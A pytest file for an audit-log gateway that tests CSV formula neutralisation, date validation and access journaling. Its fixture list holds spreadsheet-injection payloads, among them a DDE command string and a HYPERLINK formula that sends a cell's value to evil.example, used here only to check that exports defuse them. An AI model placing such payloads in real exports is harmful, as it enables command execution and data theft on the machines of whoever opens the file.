"""The log's one read side: one date rule (400 on overflow), spreadsheet-safe CSV from the
CLI, the admin API and the console, and every read of others' records journaled."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from gateway.audit.reading.models import AccessLogEntry
from tests.admin._helpers import admin_client, insert_rows, row
from tests.conftest import Gateway
from tests.console._helpers import sign_in

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            '=HYPERLINK("http://evil.example/?x="&A1;"clic")']
OVERFLOWING = ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "10000-01-01", "2026-13-01", "hier", "2026-12-07T25:00", "\x00"]


def _tag() -> str:
    return uuid.uuid4().hex[:10]


def _hostile_rows(dept: str) -> list[dict[str, Any]]:
    return [row(department=dept, model=formula, response=formula, error=formula,
                user_email=f"{formula[:3]}@exemple.fr") for formula in FORMULAS]


def _assert_defused(text: str, count: int, department: str | None = None,
                    formulas: list[str] = FORMULAS) -> None:
    parsed = [r for r in csv.DictReader(io.StringIO(text, newline=""))
              if department is None or r["department"] == department]
    assert len(parsed) == count
    for record in parsed:
        for name, cell in record.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # What was neutralised is the value behind one quote, nothing else lost.
    assert sorted(r["model"] for r in parsed) == sorted("'" + f for f in formulas)


def test_csv_export_of_the_admin_api_defuses_formulas(gw: Gateway) -> None:
    dept = f"csv-{_tag()}"
    insert_rows(gw.engine, _hostile_rows(dept))
    with admin_client(gw, "auditor") as client:
        response = client.get("/admin/api/interactions/export",
                              params={"department": dept, "format": "csv"})
        assert response.status_code == 200
        _assert_defused(response.text, len(FORMULAS))
        # JSON lines are for programs: values exactly as stored.
        lines = client.get("/admin/api/interactions/export", params={"department": dept})
        assert sorted(json.loads(x)["model"] for x in lines.text.splitlines()) == sorted(FORMULAS)


def test_csv_export_of_the_cli_defuses_formulas_and_is_journaled(gw: Gateway) -> None:
    dept = f"csv-{_tag()}"
    ids = insert_rows(gw.engine, _hostile_rows(dept))
    exported = gw.cli("logs", "export", "--format", "csv").stdout
    mine = [r for r in csv.DictReader(io.StringIO(exported, newline=""))
            if r["department"] == dept]
    assert sorted(r["id"] for r in mine) == sorted(ids)
    # run_cli reads stdout as text: universal newlines turn the CR into LF.
    _assert_defused(exported, len(FORMULAS), dept,
                    [f.replace("\r", "\n") for f in FORMULAS])
    with Session(gw.engine) as session:
        entry = session.scalars(select(AccessLogEntry).where(
            AccessLogEntry.endpoint == "cli logs export").order_by(AccessLogEntry.id.desc())
        ).first()
    assert entry is not None and entry.user_email.startswith("cli:") and entry.role == "cli"
    assert entry.filters == {"format": "csv"} and entry.record_count >= len(ids)


def test_console_export_defuses_formulas_and_is_journaled(gw: Gateway) -> None:
    dept = f"csv-{_tag()}"
    insert_rows(gw.engine, _hostile_rows(dept))
    auditor = f"console-export-{_tag()}@exemple.fr"
    with sign_in(gw, "auditor", user=auditor) as client:
        listing = client.get("/admin/interactions", params={"department": dept})
        assert f"/admin/interactions/export?department={dept}&amp;format=csv" in listing.text
        response = client.get("/admin/interactions/export",
                              params={"department": dept, "format": "csv"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        _assert_defused(response.text, len(FORMULAS))
    with Session(gw.engine) as session:
        entries = session.scalars(select(AccessLogEntry).where(
            AccessLogEntry.user_email == auditor).order_by(AccessLogEntry.id)).all()
    assert [(e.endpoint, e.filters) for e in entries] == [
        ("GET /admin/interactions", {"department": dept}),
        ("GET /admin/interactions/export", {"department": dept, "format": "csv"}),
    ]
    assert entries[1].record_count == len(FORMULAS)


@pytest.mark.parametrize("value", OVERFLOWING)
@pytest.mark.parametrize("param", ["since", "until"])
def test_a_bad_date_is_a_400_on_every_route(gw: Gateway, param: str, value: str) -> None:
    with admin_client(gw, "admin") as client:
        for path in ("/admin/api/interactions", "/admin/api/interactions/export",
                     "/admin/api/reviews", "/admin/api/access-log", "/admin/api/stats",
                     "/admin/api/audit/verify", "/v1/me/interactions"):
            response = client.get(path, params={param: value})
            assert response.status_code == 400, (path, response.text)
            assert response.json()["error"]["code"] == "invalid_request"
            assert response.json()["error"]["param"] == param


@pytest.mark.parametrize("value", OVERFLOWING[:4])
def test_a_bad_date_is_a_usage_error_in_the_cli(gw: Gateway, value: str) -> None:
    for command in (("logs", "export"), ("audit", "verify")):
        result = gw.cli(*command, "--until", value, check=False)
        assert result.returncode == 2, result.stderr
        assert "Traceback" not in result.stderr and "--until" in result.stderr


def test_a_bad_date_in_the_console_is_a_400_page(gw: Gateway) -> None:
    with sign_in(gw, "auditor") as client:
        page = client.get("/admin/interactions", params={"until": OVERFLOWING[0]})
        assert page.status_code == 400 and "until" in page.text


def test_a_crafted_cursor_is_a_400(gw: Gateway) -> None:
    import base64
    crafted = base64.urlsafe_b64encode(
        json.dumps(["9999-12-31T23:59:59-14:00", "x"]).encode()).decode()
    with admin_client(gw, "auditor") as client:
        for cursor in (crafted, "%%%", "eyJ4Ijp9"):
            response = client.get("/admin/api/interactions", params={"cursor": cursor})
            assert response.status_code == 400, response.text


def test_a_date_alone_as_until_includes_that_day_everywhere(gw: Gateway) -> None:
    from datetime import UTC, datetime
    dept = f"day-{_tag()}"
    [late] = insert_rows(gw.engine, [row(department=dept,
                                         created_at=datetime(2026, 3, 4, 23, 59, tzinfo=UTC))])
    with admin_client(gw, "auditor") as client:
        listed = client.get("/admin/api/interactions",
                            params={"department": dept, "until": "2026-03-04"}).json()["data"]
        assert [r["id"] for r in listed] == [late]
        # The last day there is, as an upper bound: everything, not an overflow.
        endless = client.get("/admin/api/interactions",
                             params={"department": dept, "until": "9999-12-31"})
        assert [r["id"] for r in endless.json()["data"]] == [late]
    with sign_in(gw, "auditor") as console:
        page = console.get("/admin/interactions", params={"department": dept,
                                                           "until": "2026-03-04"})
        assert late in page.text


def test_every_list_of_others_records_is_journaled(gw: Gateway) -> None:
    tag = _tag()
    reviewer = f"relecteur-{tag}@exemple.fr"
    insert_rows(gw.engine, [row(department=f"q-{tag}", decision="held")])
    with admin_client(gw, "reviewer", user=reviewer) as client:
        queue = client.get("/admin/api/reviews", params={"department": f"q-{tag}"})
        assert queue.status_code == 200 and len(queue.json()["data"]) == 1
    with admin_client(gw, "auditor") as client:
        entries = client.get("/admin/api/access-log", params={"user": reviewer}).json()["data"]
    assert [e["endpoint"] for e in entries] == ["GET /admin/api/reviews"]
    assert entries[0]["record_ids"] == [queue.json()["data"][0]["id"]]
